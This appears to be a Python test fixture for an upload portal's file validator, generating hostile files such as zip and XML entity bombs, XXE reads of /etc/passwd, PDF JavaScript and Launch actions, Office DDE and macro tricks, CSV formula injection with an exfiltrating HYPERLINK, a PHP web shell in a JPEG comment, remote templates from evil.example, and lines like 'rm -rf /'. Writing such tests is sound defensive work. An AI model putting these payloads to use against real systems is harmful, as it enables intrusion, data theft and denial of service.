"""Files that must not be taken, made by code: what each tries is its name here."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

from tests.portal.good_files import (
    HEAD,
    SHEET,
    TYPES,
    WORD,
    S,
    document,
    docx,
    docx_parts,
    packed,
    pdf,
    photo,
    relation,
    relations,
    saved,
    scene,
    sheet,
    types,
    xlsx,
    xlsx_parts,
)

ZIP = packed({"a.txt": "hello"})
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
EXE = b"MZ\x90\0\x03\0\0\0" + bytes(200)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


# Archives -------------------------------------------------------------------------------------------------------


def raw_entry(name: str, content: bytes, **info: int) -> zipfile.ZipInfo:
    made = zipfile.ZipInfo(name)
    made.compress_type = zipfile.ZIP_DEFLATED
    for key, value in info.items():
        setattr(made, key, value)
    return made


def docx_with(name: str, content: bytes = b"x", **info: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, text in docx_parts().items():
            archive.writestr(part, text)
        archive.writestr(raw_entry(name, content, **info), content)
    return out.getvalue()


def bomb() -> bytes:
    return xlsx(**{"xl/worksheets/sheet1.xml": sheet("<row/>" * 26_000_000)})


def lying_bomb() -> bytes:
    """Say of a part that it is small; it unpacks to far more."""
    made = bytearray(docx_with("word/big.xml", b" " * 3_000_000))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = made.rfind(mark)
        made[place + at : place + at + 4] = struct.pack("<I", 1000)
    return bytes(made)


def many_parts() -> bytes:
    return docx(**{f"word/p{number}.xml": "<a/>" for number in range(2000)})


def overlapping() -> bytes:
    """Let two names stand for the same packed bytes, as quine bombs do."""
    made = docx()
    end = made.rfind(b"PK\x05\x06")
    start = int.from_bytes(made[end + 16 : end + 20], "little")
    directory = made[start:end]
    second = directory.index(b"PK\x01\x02", 4)
    twin = bytearray(directory[:second])
    twin[46 : 46 + len(b"[Content_Types].xml")] = b"[Content_Typez].xml"
    tail = bytearray(made[end:])
    count = int.from_bytes(tail[10:12], "little") + 1
    tail[8:10] = tail[10:12] = struct.pack("<H", count)
    tail[12:16] = struct.pack("<I", len(directory) + len(twin))
    return made[:start] + directory + bytes(twin) + bytes(tail)


def encrypted_part() -> bytes:
    made = bytearray(docx())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = made.rfind(mark)
        made[place + at] |= 1
    return bytes(made)


def two_names() -> bytes:
    """Name a part differently in its header and in the directory."""
    made = bytearray(docx_with("word/aaaa.xml", b"<a/>"))
    place = made.find(b"word/aaaa.xml")
    made[place : place + 13] = b"word/vbaP.bin"
    return bytes(made)


def duplicate() -> bytes:
    return docx_with("WORD/Document.xml", b"<a/>")


def hidden_between() -> bytes:
    """Leave room between two parts, with a page in it."""
    made = docx()
    end = made.rfind(b"PK\x05\x06")
    start = int.from_bytes(made[end + 16 : end + 20], "little")
    stuffing = HTML + bytes(2000)
    tail = bytearray(made[end:])
    tail[16:20] = struct.pack("<I", start + len(stuffing))
    return made[:start] + stuffing + made[start:end] + bytes(tail)


# Office ---------------------------------------------------------------------------------------------------------


def body(part: str, kind: str, target: str) -> bytes:
    return docx(**{part: relations(relation(kind, target, external=True))})


def main_type(content_type: str, part: str = "word/document.xml") -> bytes:
    return packed(docx_parts(**{"[Content_Types].xml": types(content_type, part)}))


def field(text: str) -> bytes:
    pieces = "".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in text)
    return docx(**{"word/document.xml": document(f"<w:p>{pieces}</w:p>")})


DOC_RELS = "word/_rels/document.xml.rels"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><a>&i;</a>"
)
XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


# Pictures -------------------------------------------------------------------------------------------------------


def png_chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def huge_png(width: int, height: int) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(bytes(100_000))
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", pixels)
        + png_chunk(b"IEND", b"")
    )


def png_with(name: bytes, content: bytes) -> bytes:
    made = saved(scene(64, 64), "PNG")
    return made[:33] + png_chunk(name, content) + made[33:]


def huge_jpg() -> bytes:
    made = bytearray(saved(scene(64, 64), "JPEG"))
    at = made.index(b"\xff\xc0")
    made[at + 5 : at + 9] = struct.pack(">HH", 60000, 60000)
    return bytes(made)


def many_scans() -> bytes:
    made = saved(scene(64, 64), "JPEG", progressive=True)
    at = made.rindex(b"\xff\xda")
    return made[:at] + made[at:-2] * 200 + made[-2:]


def moving(form: str) -> bytes:
    frames = [scene(64, 64, seed) for seed in range(3)]
    return saved(frames[0], form, save_all=True, append_images=frames[1:])


def webp_tail() -> bytes:
    return saved(scene(), "WEBP") + HTML


# PDF ------------------------------------------------------------------------------------------------------------


def action(**keys: object) -> Callable[[], bytes]:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = Dictionary(keys)

    return lambda: pdf(change)


def annotation(**keys: object) -> Callable[[], bytes]:
    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].Annots = Array(
            [made.make_indirect(Dictionary({"/Type": Name.Annot, "/Rect": [0, 0, 9, 9], **keys}))]
        )

    return lambda: pdf(change)


def hex_in_place() -> bytes:
    """Write names in hexadecimal without moving anything: the padding pays for the longer name."""
    made = pdf(
        lambda one: one.Root.__setattr__(
            "OpenAction", Dictionary({"/S": Name.JavaScript, "/JS": String("x" * 40)})
        ),
        qdf=True,
    )
    return (
        made.replace(b"/JavaScript", b"/J#61vaScript")
        .replace(b"x" * 40, b"x" * 34)
        .replace(b"/JS (", b"/#4a#53 (")
    )


def launch_in_stream() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.AA = made.make_indirect(
            Dictionary(WC=made.make_indirect(Dictionary({"/S": Name.Launch, "/F": String("cmd.exe")})))
        )

    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def attachment() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.attachments["invoice.exe"] = EXE

    return pdf(change)


def form() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.AcroForm = Dictionary(XFA=Stream(made, b"<xdp/>"), Fields=Array())

    return pdf(change)


def name_tree() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        script = Dictionary({"/S": Name.JavaScript, "/JS": String("1")})
        made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))

    return pdf(change)


def unused_script() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.PieceInfo = Array([Array([Dictionary({"/JS": String("1")})])])

    return pdf(change)


def twice_packed() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        inner = zlib.compress(zlib.compress(bytes(5_000_000)))
        stream = Stream(made, b"")
        stream.write(inner, filter=Array([Name.FlateDecode, Name.FlateDecode]))
        made.pages[0].Contents = stream

    return pdf(change, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def huge_image() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        image = Stream(made, zlib.compress(bytes(1000)))
        image.Type, image.Subtype = Name.XObject, Name.Image
        image.Width, image.Height, image.BitsPerComponent = 100_000, 100_000, 8
        image.ColorSpace, image.Filter = Name.DeviceGray, Name.FlateDecode
        made.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=image))

    return pdf(change, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def no_pages() -> bytes:
    out = io.BytesIO()
    made = pikepdf.new()
    made.save(out)
    return out.getvalue()


def locked() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="a", user="b"))


def broken_table() -> bytes:
    made = pdf()
    at = made.rindex(b"startxref")
    return made[:at] + b"startxref\n7\n%%EOF\n"


Case = tuple[str, Callable[[], bytes], str]
"""The name it comes under, the content, and the code of the refusal."""

HOSTILE: dict[str, Case] = {
    # Nothing, too much, nobody knows what
    "nothing in it": ("a.pdf", lambda: b"", "empty"),
    "one byte over the limit": ("a.txt", lambda: b"a" * (20 * 1024 * 1024 + 1), "too_large"),
    "noise": ("a.bin", lambda: bytes(range(256)) * 8, "unknown"),
    "noise said to be a pdf": ("a.pdf", lambda: bytes(range(256)) * 8, "unknown"),
    # Kinds that are not taken
    "gif": ("a.gif", lambda: saved(scene(), "GIF"), "stranger"),
    "gif said to be a jpg": ("a.jpg", lambda: saved(scene(), "GIF"), "stranger"),
    "bmp": ("a.bmp", lambda: saved(scene(), "BMP"), "stranger"),
    "tiff": ("a.tif", lambda: saved(scene(), "TIFF"), "stranger"),
    "heic": ("a.heic", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(99), "stranger"),
    "film": ("a.mp4", lambda: b"\0\0\0\x18ftypmp42\0\0\0\0" + bytes(99), "stranger"),
    "svg with a script": ("a.svg", lambda: b'<svg xmlns="x"><script>1</script></svg>', "stranger"),
    "svg behind a declaration": ("a.png", lambda: b'<?xml version="1.0"?>\n<svg onload="x"/>', "stranger"),
    "html": ("a.html", lambda: HTML, "stranger"),
    "html said to be a picture": ("a.png", lambda: HTML, "stranger"),
    "html in two bytes a letter": ("a.txt", lambda: HTML.decode().encode("utf-16"), "stranger"),
    "xml": ("a.xml", lambda: b"<?xml version='1.0'?><a/>", "stranger"),
    "zip": ("a.zip", lambda: ZIP, "stranger"),
    "empty zip": ("a.zip", lambda: packed({}), "stranger"),
    "zip said to be a docx": ("a.docx", lambda: ZIP, "stranger"),
    "rar": ("a.rar", lambda: b"Rar!\x1a\x07\x01\0" + bytes(50), "stranger"),
    "gzip": ("a.pdf", lambda: b"\x1f\x8b\x08\0" + bytes(50), "stranger"),
    "doc of old": ("a.doc", lambda: OLE, "stranger"),
    "xls of old said to be an xlsx": ("a.xlsx", lambda: OLE, "stranger"),
    "rtf": ("a.docx", lambda: b"{\\rtf1\\ansi hello}", "stranger"),
    "slides": (
        "a.pptx",
        lambda: main_type(
            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
        ),
        "stranger",
    ),
    "opendocument": (
        "a.odt",
        lambda: packed({"mimetype": "application/vnd.oasis.opendocument.text"}, 0),
        "stranger",
    ),
    "ofd": ("a.ofd", lambda: packed({"OFD.xml": "<ofd/>"}), "stranger"),
    "windows program said to be a picture": ("a.jpg", lambda: EXE, "stranger"),
    "linux program said to be a table": ("a.xlsx", lambda: b"\x7fELF\x02\x01\x01" + bytes(99), "stranger"),
    "shortcut": ("a.pdf", lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(99), "stranger"),
    "shell script": ("a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "stranger"),
    "batch file": ("a.txt", lambda: b"@echo off\r\nformat c:\r\n", "stranger"),
    "postscript": ("a.pdf", lambda: b"%!PS-Adobe-3.0\n", "stranger"),
    # Names
    "name with a path": ("../../etc/passwd.txt", lambda: b"hello", "name_path"),
    "name with a windows path": ("..\\..\\a.txt", lambda: b"hello", "name_path"),
    "name with a drive": ("C:a.txt", lambda: b"hello", "name_path"),
    "name with a nul": ("a.txt\0.exe", lambda: b"hello", "name_path"),
    "name of dots": ("..", lambda: b"hello", "name_path"),
    "two extensions": ("invoice.pdf.exe", pdf, "wrong_extension"),
    "an extension behind an invisible turn": ("photo\u202egpj.exe", photo, "wrong_extension"),
    "pdf said to be a picture": ("a.jpg", pdf, "wrong_extension"),
    "picture said to be another": ("a.png", photo, "wrong_extension"),
    "text said to be a pdf": ("a.pdf", lambda: b"hello", "wrong_extension"),
    "word said to be excel": ("a.xlsx", docx, "wrong_extension"),
    "excel with the extension of macros": ("a.xlsm", xlsx, "wrong_extension"),
    "program text": ("a.js", lambda: b"alert(1)", "extension"),
    "registry text": ("a.reg", lambda: b"Windows Registry Editor", "extension"),
    # Pictures
    "picture of 900 million pixels": ("a.png", lambda: huge_png(30000, 30000), "pixels"),
    "jpg that says it is huge": ("a.jpg", huge_jpg, "pixels"),
    "webp of 13 million pixels": (
        "a.webp",
        lambda: saved(Image.new("RGB", (4200, 3100)), "WEBP", method=0),
        "pixels_webp",
    ),
    "jpg whose passes fill the memory": (
        "a.jpg",
        lambda: saved(Image.new("RGB", (6000, 5500)), "JPEG", progressive=True, subsampling=0),
        "progressive",
    ),
    "picture one pixel high": ("a.png", lambda: huge_png(40000, 1), "side"),
    "jpg cut off": ("a.jpg", lambda: photo()[:-4000], "damaged"),
    "png cut off": ("a.png", lambda: saved(scene(), "PNG")[:-200], "damaged"),
    "webp cut off": ("a.webp", lambda: saved(scene(), "WEBP")[:-200], "damaged"),
    "png with a wrong checksum": (
        "a.png",
        lambda: saved(scene(), "PNG").replace(b"IDATx", b"IDATy", 1),
        "damaged",
    ),
    "jpg of a thousand passes": ("a.jpg", many_scans, "too_long"),
    "moving png": ("a.png", lambda: moving("PNG"), "animated"),
    "moving webp": ("a.webp", lambda: moving("WEBP"), "animated"),
    "png with a page behind it": ("a.png", lambda: saved(scene(), "PNG") + HTML, "polyglot"),
    "jpg with a page behind it": ("a.jpg", lambda: photo() + HTML, "polyglot"),
    "jpg with a film and a page behind it": (
        "a.jpg",
        lambda: photo() + b"\0\0\0\x18ftypmp42" + HTML,
        "polyglot",
    ),
    "webp with a page behind it": ("a.webp", webp_tail, "polyglot"),
    "jpg with an archive behind it": ("a.jpg", lambda: photo() + ZIP, "polyglot"),
    "png with an archive in a note": ("a.png", lambda: png_with(b"prVt", ZIP), "polyglot"),
    "jpg with a pdf in front of its pixels": (
        "a.jpg",
        lambda: saved(scene(), "JPEG", comment=b"%PDF-1.4 1 0 obj"),
        "polyglot",
    ),
    "jpg with php in its comment": (
        "a.jpg",
        lambda: saved(scene(), "JPEG", comment=b"<?php system($_GET[0]); ?>"),
        "picture_script",
    ),
    "png with a page in a note": ("a.png", lambda: png_with(b"tEXt", b"a\0" + HTML), "picture_script"),
    # PDF
    "pdf with a script on opening": (
        "a.pdf",
        action(**{"/S": Name.JavaScript, "/JS": String("1")}),
        "pdf_script",
    ),
    "pdf with a script in hexadecimal": ("a.pdf", hex_in_place, "pdf_script"),
    "pdf with a script by name": ("a.pdf", name_tree, "pdf_script"),
    "pdf with a script nobody calls": ("a.pdf", unused_script, "pdf_script"),
    "pdf that starts a program": (
        "a.pdf",
        action(**{"/S": Name.Launch, "/F": String("calc.exe")}),
        "pdf_action",
    ),
    "pdf that starts a program, packed": ("a.pdf", launch_in_stream, "pdf_action"),
    "pdf that opens another file": (
        "a.pdf",
        action(**{"/S": Name.GoToR, "/F": String("\\\\evil\\a.pdf")}),
        "pdf_action",
    ),
    "pdf that sends what is filled in": (
        "a.pdf",
        annotation(**{"/Subtype": Name.Link, "/A": Dictionary({"/S": Name.SubmitForm})}),
        "pdf_action",
    ),
    "pdf with a link that runs": (
        "a.pdf",
        annotation(
            **{
                "/Subtype": Name.Link,
                "/A": Dictionary({"/S": Name.URI, "/URI": String("javascript:alert(1)")}),
            }
        ),
        "pdf_action",
    ),
    "pdf with an attachment": ("a.pdf", attachment, "pdf_attachment"),
    "pdf with a film": ("a.pdf", annotation(**{"/Subtype": Name.RichMedia}), "pdf_media"),
    "pdf with a living form": ("a.pdf", form, "pdf_form"),
    "pdf packed twice": ("a.pdf", twice_packed, "pdf_bomb"),
    "pdf with a picture of ten thousand million pixels": ("a.pdf", huge_image, "pdf_bomb"),
    "pdf without a page": ("a.pdf", no_pages, "pdf_blank"),
    "pdf with a password": ("a.pdf", locked, "encrypted"),
    "pdf cut off": ("a.pdf", lambda: pdf()[:-300], "damaged"),
    "pdf whose table of contents is wrong": ("a.pdf", broken_table, "damaged"),
    "pdf with an archive behind it": ("a.pdf", lambda: pdf() + ZIP, "polyglot"),
    "pdf with a page behind it": ("a.pdf", lambda: pdf() + HTML, "polyglot"),
    "pdf with a page in its head": (
        "a.pdf",
        lambda: pdf().replace(b"%PDF-1.", b"%PDF-1.7\n" + HTML + b"\n%PDF-1.", 1),
        "polyglot",
    ),
    "pdf behind a page": ("a.pdf", lambda: b"GARBAGE\n" + pdf(), "polyglot"),
    # What Office files are packed in
    "table of 45 kB that unpacks to 156 MB": ("a.xlsx", bomb, "zip_bomb"),
    "part that is larger than it says": ("a.docx", lying_bomb, "damaged"),
    "two thousand parts and more": ("a.docx", many_parts, "zip_entries"),
    "part with a path upwards": ("a.docx", lambda: docx_with("../../evil.xml"), "zip_path"),
    "part with an absolute path": ("a.docx", lambda: docx_with("/etc/evil.xml"), "zip_path"),
    "part with a windows path": ("a.docx", lambda: docx_with("word\\..\\evil.xml"), "zip_path"),
    "part that is a link": (
        "a.docx",
        lambda: docx_with("word/link.xml", b"/etc/passwd", external_attr=0o120777 << 16),
        "zip_link",
    ),
    "part with a password": ("a.docx", encrypted_part, "encrypted"),
    "office file with a password": (
        "a.docx",
        lambda: OLE + "EncryptedPackage".encode("utf-16-le") + bytes(99),
        "encrypted",
    ),
    "the same part twice": ("a.docx", duplicate, "zip_twice"),
    "parts over each other": ("a.docx", overlapping, "zip_twice"),
    "a part with two names": ("a.docx", two_names, "zip_twice"),
    "a page between the parts": ("a.docx", hidden_between, "polyglot"),
    "a page in front of the parts": ("a.docx", lambda: HTML + docx(), "stranger"),
    "a page behind the parts": ("a.docx", lambda: docx() + HTML, "polyglot"),
    "word cut off": ("a.docx", lambda: docx()[:-30], "damaged"),
    "word without its types": (
        "a.docx",
        lambda: packed(docx_parts(**{"[Content_Types].xml": f'{HEAD}<Types xmlns="{TYPES}"/>'})),
        "damaged",
    ),
    # What Office files hold
    "word with macros": ("a.docx", lambda: docx(**{"word/vbaProject.bin": OLE}), "office_macro"),
    "word that says it has macros": (
        "a.docx",
        lambda: main_type("application/vnd.ms-word.document.macroEnabled.main+xml"),
        "office_macro",
    ),
    "excel with macros of old": (
        "a.xlsx",
        lambda: xlsx(**{"xl/macrosheets/sheet1.xml": "<a/>"}),
        "office_macro",
    ),
    "excel with hidden relation to macros": (
        "a.xlsx",
        lambda: xlsx(**{"xl/_rels/workbook.xml.rels": relations(relation("vbaProject", "media/a.png"))}),
        "office_macro",
    ),
    "word with a control": ("a.docx", lambda: docx(**{"word/activeX/activeX1.xml": "<a/>"}), "office_active"),
    "drawing with a script": (
        "a.docx",
        lambda: docx(**{"word/media/a.svg": "<svg><script>1</script></svg>"}),
        "office_active",
    ),
    "word with an embedded program": (
        "a.docx",
        lambda: docx(**{"word/embeddings/oleObject1.bin": OLE}),
        "office_object",
    ),
    "program named as printer settings": (
        "a.xlsx",
        lambda: xlsx(**{"xl/printerSettings/printerSettings1.bin": OLE}),
        "office_object",
    ),
    "word in word in word in word": (
        "a.docx",
        lambda: docx(
            **{
                "word/embeddings/1.docx": docx(
                    **{"word/embeddings/2.docx": docx(**{"word/embeddings/3.docx": docx()})}
                )
            }
        ),
        "office_object",
    ),
    "macros in an embedded table": (
        "a.docx",
        lambda: docx(**{"word/embeddings/1.xlsx": xlsx(**{"xl/vbaProject.bin": OLE})}),
        "office_macro",
    ),
    "page embedded in word": (
        "a.docx",
        lambda: docx(**{DOC_RELS: relations(relation("aFChunk", "afchunk.xml"))}),
        "office_object",
    ),
    "program among the parts": ("a.docx", lambda: docx(**{"word/media/run.exe": EXE}), "office_part"),
    "program named as a picture": ("a.docx", lambda: docx(**{"word/media/image1.png": EXE}), "office_part"),
    "template from the net": (
        "a.docx",
        lambda: body("word/_rels/settings.xml.rels", "attachedTemplate", "https://evil.example/a.dotm"),
        "office_template",
    ),
    "template from another machine": (
        "a.docx",
        lambda: body("word/_rels/settings.xml.rels", "attachedTemplate", "\\\\evil\\share\\a.dotm"),
        "office_template",
    ),
    "picture from the net": (
        "a.docx",
        lambda: body(DOC_RELS, "image", "http://evil.example/track.png"),
        "office_external",
    ),
    "frame from another machine": (
        "a.docx",
        lambda: body(DOC_RELS, "frame", "file://evil/share/a.html"),
        "office_external",
    ),
    "table fed from the net": (
        "a.xlsx",
        lambda: xlsx(**{"xl/connections.xml": f'<connections xmlns="{S}"/>'}),
        "office_external",
    ),
    "link that runs": ("a.docx", lambda: body(DOC_RELS, "hyperlink", "javascript:alert(1)"), "office_link"),
    "link with a scheme of its own": (
        "a.docx",
        lambda: body(DOC_RELS, "hyperlink", "ms-msdt:/id PCWDiagnostic"),
        "office_link",
    ),
    "link to another machine": (
        "a.docx",
        lambda: body(DOC_RELS, "hyperlink", "%5C%5Cevil%5Cshare"),
        "office_link",
    ),
    "field that starts a program": ("a.docx", lambda: field(' DDEAUTO c:\\cmd.exe "/k calc" '), "office_dde"),
    "table that starts a program": (
        "a.xlsx",
        lambda: xlsx(**{"xl/externalLinks/externalLink1.xml": '<x><ddeLink ddeService="cmd"/></x>'}),
        "office_dde",
    ),
    "formula that starts a program": (
        "a.xlsx",
        lambda: xlsx(
            **{"xl/worksheets/sheet1.xml": sheet("<row><c><f>cmd|'/c calc'!A0</f><v>0</v></c></row>")}
        ),
        "office_dde",
    ),
    "formula that asks the net": (
        "a.xlsx",
        lambda: xlsx(
            **{"xl/worksheets/sheet1.xml": sheet('<row><c><f>WEBSERVICE("http://e")</f></c></row>')}
        ),
        "office_dde",
    ),
    "a thousand million laughs": ("a.docx", lambda: docx(**{"word/document.xml": LAUGHS}), "xml_entity"),
    "file read by an entity": ("a.xlsx", lambda: xlsx(**{"xl/sharedStrings.xml": XXE}), "xml_entity"),
    "entity in two bytes a letter": (
        "a.docx",
        lambda: docx(**{"word/settings.xml": XXE.encode("utf-16")}),
        "xml_entity",
    ),
    "entity in a drawing": (
        "a.xlsx",
        lambda: xlsx(**{"xl/drawings/vmlDrawing1.vml": XXE}),
        "xml_entity",
    ),
    "endless depth": (
        "a.docx",
        lambda: docx(**{"word/document.xml": "<a>" * 50_000 + "</a>" * 50_000}),
        "xml_deep",
    ),
    "broken xml": ("a.docx", lambda: docx(**{"word/document.xml": "<a><b></a>"}), "damaged"),
    "two kinds at once": (
        "a.docx",
        lambda: packed(
            {
                **xlsx_parts(),
                **docx_parts(
                    **{
                        "[Content_Types].xml": types(
                            WORD,
                            "word/document.xml",
                            f'<Override PartName="/xl/workbook.xml" ContentType="{SHEET}"/>',
                        )
                    }
                ),
            }
        ),
        "damaged",
    ),
    # Text
    "script in a text": ("a.txt", "见附件 <script>fetch('//e')</script>".encode, "text_markup"),
    "php in a text": ("a.txt", lambda: b"hello <?php system(1); ?>", "text_markup"),
    "mail with a page in it": (
        "a.txt",
        lambda: b"MIME-Version: 1.0\nContent-Type: text/html\n",
        "text_markup",
    ),
    "text that writes over the screen": ("a.txt", lambda: b"hello\x08\x08\x08\x07", "text_control"),
    "text with a nul": ("a.txt", lambda: b"hello\0world", "unknown"),
    "table of text that starts a program": (
        "a.csv",
        "姓名\n=cmd|'/c calc'!A0\n".encode,
        "csv_command",
    ),
    "the same in wide letters": ("a.csv", "姓名\n＝cmd|'/c calc'!A0\n".encode, "csv_command"),
    "table of text that sends itself away": (
        "a.csv",
        lambda: b'a\n1\n"=HYPERLINK(""http://e?""&A1)"\n',
        "csv_command",
    ),
    "table of text with an open quote": ("a.csv", lambda: b'a,b\n1,"2\n3,4\n', "csv_broken"),
}
